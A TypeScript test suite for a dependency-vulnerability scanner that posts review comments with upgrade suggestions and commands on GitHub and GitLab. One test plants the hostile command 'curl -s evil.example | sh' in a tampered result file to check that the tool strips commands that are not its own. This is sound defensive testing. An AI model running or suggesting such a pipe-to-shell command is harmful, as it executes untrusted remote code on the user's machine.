// What a reviewer meets on both hosts when a change brings vulnerable packages in: one comment a package, the button, the command, the end.
import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { ask } from '#app/ask.ts';
import { explain } from '#app/explain.ts';
import { findSuggestionBlocks } from '../doubles/apply-suggestion.ts';
import type { ReviewRepository } from '../emulators/review-repository.ts';
import {
  alertsIn,
  createDependencyChange,
  filesOf,
  type Known,
  publishResult,
  pushStand,
  type Stand,
  scanDependencies,
  withOtherPackage,
} from './dependency-change.ts';
import { environmentWith, type PublishedRun, readOut } from './reviewed-change.ts';
import { HOSTS, type ReviewingHost, type SaidComment, startReviewingHost } from './reviewing-host.ts';

const BEFORE: Stand = {
  asked: { dependencies: { 'kit-opener': '^1.0.0' } },
  installed: { 'kit-opener': { version: '1.0.0' } },
};
/** Adds one package of these versions. */
const adding = (constraint: string, version: string): Stand => ({
  asked: { dependencies: { ...BEFORE.asked.dependencies, 'kit-templates': constraint } },
  installed: { ...BEFORE.installed, 'kit-templates': { version } },
});
const WORST: Known = { cve: 'CVE-2026-1001', name: 'kit-templates', fixed: '4.17.21' };
const LOWER: Known = { cve: 'CVE-2026-1002', name: 'kit-templates', fixed: '4.17.19', low: true };
const LAST: Known = { cve: 'CVE-2026-1003', name: 'kit-templates', fixed: '4.17.23' };
const DEEP: Known = { cve: 'CVE-2026-2001', name: 'kit-deep', fixed: '1.0.9' };
/** The lock file alone brings another one in: the opener has needed it since its version 1.1.0. */
const DEEPER: Stand = {
  asked: BEFORE.asked,
  installed: {
    'kit-opener': { version: '1.1.0', needs: { 'kit-deep': '^1.0.0' } },
    'kit-deep': { version: '1.0.3' },
  },
};

const lineOf = (text: string | undefined, words: string): number =>
  (text ?? '').split('\n').findIndex((one) => one.includes(words)) + 1;
/** CVE → the finding's id. */
const idsOf = ({ outcome }: PublishedRun): ReadonlyMap<string, string> =>
  new Map(outcome.document?.findings.map(({ ruleId, id }) => [ruleId, id]));
const isClosed = ({ body }: SaidComment) => /^(?:✅|☑️|➡️)/u.test(body);
const openOnes = (host: ReviewingHost) => host.comments().filter((comment) => !isClosed(comment));
/** The vulnerabilities that each open comment tells, the one that it is about first. */
const named = (host: ReviewingHost) =>
  openOnes(host).map(({ body }) => {
    const [head = ''] = body.split('<details>');
    return [...new Set([...head.matchAll(/CVE-2026-\d+/g)].map(([cve]) => cve))];
  });
const outcomes = (host: ReviewingHost) =>
  host
    .comments()
    .map(({ body }) => /^\S+ \*\*(Fixed in|No longer reported at|Accepted for now)/.exec(body)?.[1]);

const open: { close(): Promise<void>; readonly repository: ReviewRepository }[] = [];
afterEach(async () => {
  for (const host of open.splice(0)) {
    await host.close();
    host.repository.dispose();
  }
});

describe.each(HOSTS)('a vulnerable package on %s', (name) => {
  async function start(
    after: Stand,
    { before = BEFORE, files = {} }: { before?: Stand; files?: Record<string, string> } = {},
  ): Promise<ReviewingHost> {
    const host = await startReviewingHost(name, createDependencyChange(before, after, files));
    open.push(host);
    return host;
  }
  const headFile = ({ repository }: ReviewingHost, file: string) =>
    repository.file(repository.head(), file)?.toString('utf8');
  const places = (host: ReviewingHost) => host.comments().map(({ path, line }) => [path, line]);
  const rows = ({ record }: PublishedRun) =>
    record?.ledger.map(({ where, path, line }) => [where, path, line]);

  it('gets one comment at its manifest line, with a button and the command; mended, the comment is closed', async () => {
    const after = adding('4.17.15', '4.17.15');
    const host = await start(after);
    const run = await scanDependencies(host, after, [WORST]);
    expect(rows(run)).toEqual([['inline', 'package.json', 7]]);
    expect(places(host)).toEqual([['package.json', 7]]);
    const [comment] = host.comments();
    if (comment === undefined) throw new Error('there is no comment');
    expect(comment.body).toMatch(/Then run `npm install` and commit the lock file/);

    host.forget();
    await scanDependencies(host, after, [WORST]);
    expect(host.writes()).toEqual([]);

    host.apply(comment);
    const mended = adding('4.17.21', '4.17.21');
    expect(headFile(host, 'package.json')).toBe(filesOf(mended)['package.json']);
    pushStand(host.repository, mended);
    await scanDependencies(host, mended, [WORST]);
    expect(outcomes(host)).toEqual(['Fixed in']);
    expect(host.complaints()).toEqual([]);
  });

  it('gets the command and no button where what is asked for takes the mended version already', async () => {
    const after = adding('^4.17.0', '4.17.15');
    const host = await start(after);
    await scanDependencies(host, after, [WORST]);
    const [comment] = host.comments();
    expect(places(host)).toEqual([['package.json', 7]]);
    expect(comment?.body).toContain('`npm update kit-templates`');
    expect(findSuggestionBlocks(comment?.body ?? '')).toEqual([]);
    expect(comment?.body).not.toContain('Proposed by');
    const mended = adding('^4.17.0', '4.17.21');
    pushStand(host.repository, mended);
    await scanDependencies(host, mended, [WORST]);
    expect(outcomes(host)).toEqual(['No longer reported at']);
  });

  it('that the button alone does not mend stays in the summary, with the command that is still missing', async () => {
    const after = adding('4.17.15', '4.17.15');
    const host = await start(after);
    await scanDependencies(host, after, [WORST]);
    host.apply(host.comments()[0] as SaidComment);
    const run = await scanDependencies(host, after, [WORST]);
    expect(run.outcome.exitCode).toBe(1);
    expect(run.record?.counts).toMatchObject({ findings: 1, lost: 0 });
    expect(host.summaries()[0]).toContain('`npm update kit-templates`');
  });

  it('with several vulnerabilities gets one comment, which follows them over later pushes', async () => {
    const after = adding('4.17.15', '4.17.15');
    const host = await start(after);
    const first = await scanDependencies(host, after, [LOWER, WORST, LAST]);
    const ids = idsOf(first);
    expect(places(host)).toEqual([['package.json', 7]]);
    expect(first.record?.counts).toMatchObject({ findings: 3, inline: 3, lost: 0 });
    expect(new Set(first.record?.ledger.map(({ url }) => url)).size).toBe(1);
    expect(named(host)).toEqual([[WORST, LAST, LOWER].map(({ cve }) => cve)]);
    for (const id of ids.values()) expect(host.comments()[0]?.body).toContain(`id: '${id}'`);
    const [comment] = host.comments();
    expect(findSuggestionBlocks(comment?.body ?? '')).toHaveLength(1);

    host.forget();
    await scanDependencies(host, after, [LOWER, WORST, LAST]);
    expect(host.writes()).toEqual([]);

    // The worst one is mended by a smaller step than the others ask for.
    const half = adding('4.17.21', '4.17.21');
    pushStand(host.repository, half);
    const second = await scanDependencies(host, half, [LOWER, WORST, LAST]);
    expect(second.record?.counts).toMatchObject({ findings: 1, inline: 1, lost: 0 });
    expect(openOnes(host)).toHaveLength(1);
    expect(named(host)).toEqual([[LAST.cve]]);

    const whole = adding('4.17.23', '4.17.23');
    pushStand(host.repository, whole);
    await scanDependencies(host, whole, [LOWER, WORST, LAST]);
    expect(openOnes(host)).toEqual([]);
    expect(host.complaints()).toEqual([]);
  });

  it('whose worst vulnerability is waived keeps its comment for the others, without a new one', async () => {
    const after = adding('4.17.15', '4.17.15');
    const host = await start(after);
    const first = await scanDependencies(host, after, [WORST, LOWER]);
    const [before] = host.comments();
    const id = idsOf(first).get(WORST.cve) ?? '';
    const waiver = `  - id: '${id}'\n    reason: known\n    owner: team\n    expires: 2099-01-01\n`;
    host.repository.pushBase((git) => void git.write('assay.yml', `version: 1\nwaivers:\n${waiver}`));
    host.forget();
    const second = await scanDependencies(host, after, [WORST, LOWER]);
    expect(host.comments().map(({ id: comment }) => comment)).toEqual([before?.id]);
    expect(named(host)).toEqual([[LOWER.cve]]);
    expect(second.record?.ledger.map(({ where }) => where).sort()).toEqual(['inline', 'listed']);
    expect(
      host.writes().filter((write) => /^POST .*(?:comments|notes|discussions|reviews)/.test(write)),
    ).toEqual([]);
    host.forget();
    await scanDependencies(host, after, [WORST, LOWER]);
    expect(host.writes()).toEqual([]);
  });

  it('that a newer advisory speaks of as well says so in the comment that stands', async () => {
    const after = adding('4.17.15', '4.17.15');
    const host = await start(after);
    await scanDependencies(host, after, [LOWER]);
    const [before] = host.comments();
    const run = await scanDependencies(host, after, [LOWER, WORST]);
    expect(host.comments().map(({ id }) => id)).toEqual([before?.id]);
    expect(named(host)).toEqual([[WORST.cve, LOWER.cve]]);
    expect(run.record?.counts).toMatchObject({ findings: 2, inline: 2, lost: 0 });
  });

  it('that somebody deleted the comment about is not told at the line again, and is not lost', async () => {
    const after = adding('4.17.15', '4.17.15');
    const host = await start(after);
    await scanDependencies(host, after, [WORST, LOWER]);
    const { id } = host.comments()[0] as SaidComment;
    (host.github ?? host.gitlab)?.people.delete(id);
    const run = await scanDependencies(host, after, [WORST, LOWER]);
    expect(host.comments()).toEqual([]);
    const where = name === 'github' ? 'annotation' : 'summary';
    expect(run.record?.ledger.map((row) => [row.where, row.why])).toEqual([
      [where, 'A person deleted the comment about it.'],
      [where, 'A person deleted the comment about it.'],
    ]);
  });

  it('that somebody answered about keeps that text, and what joins is told elsewhere', async () => {
    const after = adding('4.17.15', '4.17.15');
    const host = await start(after);
    await scanDependencies(host, after, [LOWER]);
    const [before] = host.comments() as [SaidComment];
    (host.github ?? host.gitlab)?.people.reply(before.id, 'Looking at it.');
    const run = await scanDependencies(host, after, [LOWER, WORST]);
    expect(host.comments().filter(({ id }) => id === before.id)).toEqual([before]);
    const where = new Map(run.record?.ledger.map((row) => [row.findingId, row.where]));
    const ids = idsOf(run);
    expect([LOWER, WORST].map(({ cve }) => where.get(ids.get(cve) ?? ''))).toEqual([
      'inline',
      name === 'github' ? 'annotation' : 'summary',
    ]);
    expect(run.record?.counts).toMatchObject({ findings: 2, lost: 0 });
  });

  it('that only the lock file brings in is told at its line there, and the ledger says so', async () => {
    const host = await start(DEEPER, { before: BEFORE });
    const run = await scanDependencies(host, DEEPER, [DEEP]);
    const line = lineOf(headFile(host, 'package-lock.json'), 'node_modules/kit-deep');
    expect(places(host)).toEqual([['package-lock.json', line]]);
    expect(rows(run)).toEqual([['inline', 'package-lock.json', line]]);
    expect(run.record?.ledger[0]?.why).toContain('the change does not touch this file');
    expect(host.comments()[0]?.body).toMatch(
      /About \[`package\.json:6`\]\(.*: the change does not touch this file\./,
    );
    host.forget();
    await scanDependencies(host, DEEPER, [DEEP]);
    expect(host.writes()).toEqual([]);
  });

  it('in a lock file that the host shows no lines of is told at that file', async () => {
    const files = { '.gitattributes': 'package-lock.json -diff\n' };
    const host = await start(DEEPER, { files });
    const run = await scanDependencies(host, DEEPER, [DEEP]);
    expect(places(host)).toEqual([['package-lock.json', null]]);
    expect(rows(run)).toEqual([['file', 'package-lock.json', null]]);
    host.forget();
    await scanDependencies(host, DEEPER, [DEEP]);
    expect(host.writes()).toEqual([]);
    expect(host.complaints()).toEqual([]);
  });

  it('that the change does not bring in is told in the summary', async () => {
    const host = await start(DEEPER, { before: DEEPER, files: { 'src/other.js': 'export {};\n' } });
    host.repository.push((git) => void git.write('src/other.js', 'export const a = 1;\n'));
    const run = await scanDependencies(host, DEEPER, [DEEP], { scope: 'all' });
    expect(host.comments()).toEqual([]);
    expect(run.record?.counts).toMatchObject({ findings: 1, lost: 0 });
    expect(rows(run)).toEqual([[name === 'github' ? 'annotation' : 'summary', 'package.json', 6]]);
    expect(host.summaries()[0]).toContain('`kit-deep 1.0.3`: `CVE-2026-2001`');
  });

  it('is described by a dry run as it would be posted', async () => {
    const after = adding('4.17.15', '4.17.15');
    const host = await start(after);
    const run = await scanDependencies(host, after, [WORST, LOWER], { dryRun: true });
    expect(host.writes()).toEqual([]);
    expect(run.record).toMatchObject({ mode: 'dry_run', counts: { findings: 2, inline: 2, lost: 0 } });
    const folder = path.join(run.out, 'publication');
    const files = readdirSync(folder).filter((file) => file.startsWith('comment-'));
    expect(files).toHaveLength(1);
    const text = readFileSync(path.join(folder, files[0] ?? ''), 'utf8');
    expect(text).toMatch(/^package\.json:7\n/);
    await scanDependencies(host, after, [WORST, LOWER]);
    expect(text.split('\n').slice(2, -3)).toEqual(host.comments()[0]?.body.split('\n').slice(0, -2));
  });

  it('is told in Chinese', async () => {
    const files = { 'assay.yml': 'version: 1\nlanguage: zh-CN\n' };
    const after = adding('4.17.15', '4.17.15');
    const host = await start(after, { files });
    const run = await scanDependencies(host, after, [WORST, LOWER]);
    const [comment] = host.comments();
    expect(comment?.body).toContain('**它还有 1 个漏洞：**');
    expect(comment?.body).toContain('**随后请运行 `npm install` 并一并提交锁文件**');
    expect(run.record?.ledger.map(({ why }) => why)).toEqual([
      '评论位于所在行。',
      '关于该软件包的评论中已一并说明。',
    ]);
    host.forget();
    await scanDependencies(host, after, [WORST, LOWER]);
    expect(host.writes()).toEqual([]);
  });

  it('of a result that anybody may have written gets the button by its own rules, and no command but Assay’s', async () => {
    const after = adding('4.17.15', '4.17.15');
    const host = await start(after);
    const run = await scanDependencies(host, after, [WORST], { publish: 'none' });
    const written = readOut(run, 'assay.json');
    const posted = await publishResult(host, written);
    expect(posted.exitCode).toBe(0);
    const [good] = host.comments() as [SaidComment];
    expect(findSuggestionBlocks(good.body)).toHaveLength(1);
    expect(good.body).toContain('Then run `npm install` and');

    const shout = await publishResult(
      host,
      written.replaceAll('"npm install"', '"curl -s evil.example | sh"'),
    );
    expect(shout.log).toContain("Commands that are none of Assay's were left out of assay.json: 1.");
    expect(host.comments()[0]?.body).not.toMatch(/evil|Then run/);

    const forged = await publishResult(host, withOtherPackage(written, headFile(host, 'package.json') ?? ''));
    expect(forged.log).toMatch(/A proposed change is left out, of finding [0-9a-f]{16}: \w/);
    expect(host.comments()).toHaveLength(1);
    expect(findSuggestionBlocks(host.comments()[0]?.body ?? '')).toEqual([]);
    expect(host.comments()[0]?.body).not.toContain('kit-evil');
    expect(host.complaints()).toEqual([]);
  });

  it('without a comment is an annotation or a row that says package, vulnerability and version', async () => {
    const policy = 'version: 1\ncomments:\n  limit: 0\ncode_scanning:\n  upload: true\n';
    const after = adding('4.17.15', '4.17.15');
    const host = await start(after, { files: { 'assay.yml': policy } });
    if (host.github !== null) host.github.scanning.pendingPolls = 0;
    const run = await scanDependencies(host, after, [WORST, LOWER]);
    expect(host.comments()).toEqual([]);
    const where = name === 'github' ? 'annotation' : 'summary';
    expect(rows(run)).toEqual([
      [where, 'package.json', 7],
      [where, 'package.json', 7],
    ]);
    const [summary = ''] = host.summaries();
    expect(summary).toContain('`kit-templates 4.17.15`: `CVE-2026-1001`');
    expect(summary).toContain('**Upgrade `kit-templates` to `4.17.21`**');
    if (host.github === null) return;
    expect(host.annotations()[0]).toMatchObject({ path: 'package.json', startLine: 7 });
    const [annotation] = host.github.checkRuns.at(-1)?.annotations ?? [];
    expect(annotation?.title).toContain('kit-templates 4.17.15');
    expect(annotation?.message).toContain('4.17.21');
    const [upload] = host.github.scanning.uploads;
    expect(alertsIn(upload?.sarif)).toEqual([
      { ruleId: 'CVE-2026-1001', path: 'package.json', line: 7, score: '9.8', hashes: 3 },
      { ruleId: 'CVE-2026-1002', path: 'package.json', line: 7, score: '5.3', hashes: 3 },
    ]);
  });
});

describe('the command line about a vulnerable package', () => {
  it('shows package, version and upgrade at a glance, explains it, and answers how it came in and how to leave it', async () => {
    const { installed } = DEEPER;
    const repository = createDependencyChange(BEFORE, DEEPER);
    const host = { repository, variables: () => ({}) };
    open.push({ repository, close: async () => {} });
    const run = await scanDependencies(host, { installed }, [DEEP], { format: 'table' });
    expect(run.outcome.display).toMatch(/package\.json:6 +`kit-deep 1\.0\.3`: `CVE-2026-2001`/);
    expect(run.outcome.display).toContain('Upgrade `kit-deep` to `1.0.9`');
    const [id = ''] = idsOf(run).values();
    const told = { result: path.join(run.out, 'assay.json'), cwd: repository.git.root };
    const environment = environmentWith({ CI: '' });
    const explained = await explain({ ...told, id }, environment);
    expect(explained).toContain('by `kit-opener@1.1.0 → kit-deep@1.0.3`');
    expect(explained).toContain('npm update kit-deep');
    const answer = async (question: string) => {
      const pieces: string[] = [];
      const asked = { ...told, question, finding: id, model: null, language: null, base: null };
      const request = { ...asked, repo: repository.git.root, allowHttp: false };
      await ask(request, environment, { write: (piece) => void pieces.push(piece) });
      return pieces.join('').replace(/\s+/g, ' ');
    };
    expect(await answer('How did it come in?')).toContain('Comes in: by `kit-opener@1.1.0 → kit-deep@1.0.3`');
    expect(await answer('Is it reachable?')).toMatch(/Reached: not known .*Searched: one source file/);
    expect(await answer('How do I upgrade it?')).toContain(
      'So that the lock file follows: npm update kit-deep',
    );
    expect(await answer('如何修复？')).toContain('为使锁文件同步：npm update kit-deep');
  });
});
